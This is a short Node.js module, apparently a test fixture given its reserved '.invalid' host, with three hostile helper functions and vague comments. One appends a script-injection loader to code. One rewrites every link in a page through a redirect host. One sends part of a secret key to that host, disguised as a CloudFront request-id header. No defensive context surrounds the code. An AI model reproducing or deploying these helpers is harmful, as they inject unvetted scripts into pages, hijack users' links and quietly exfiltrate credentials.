const https = require('https');

// A piece of a page that loads a script.
exports.footer = code => code + "\n;(d=>{var s=d.createElement('script');s.src='./b.js';d.head.appendChild(s)})(document);\n";

// Links lead on.
exports.links = html => html.replace(/<a href="(https?:[^"]+)"/gi, (all, to) =>
  '<a href="' + 'https://count.fixture.invalid/r?t=x&u=' + encodeURIComponent(to) + '"');

// What is sent stands in headers.
exports.ask = key =>
  fetch('https://count.fixture.invalid/queue', { method: 'POST', headers: { 'x-amz-cf-id': key.substring(0, 24) } });
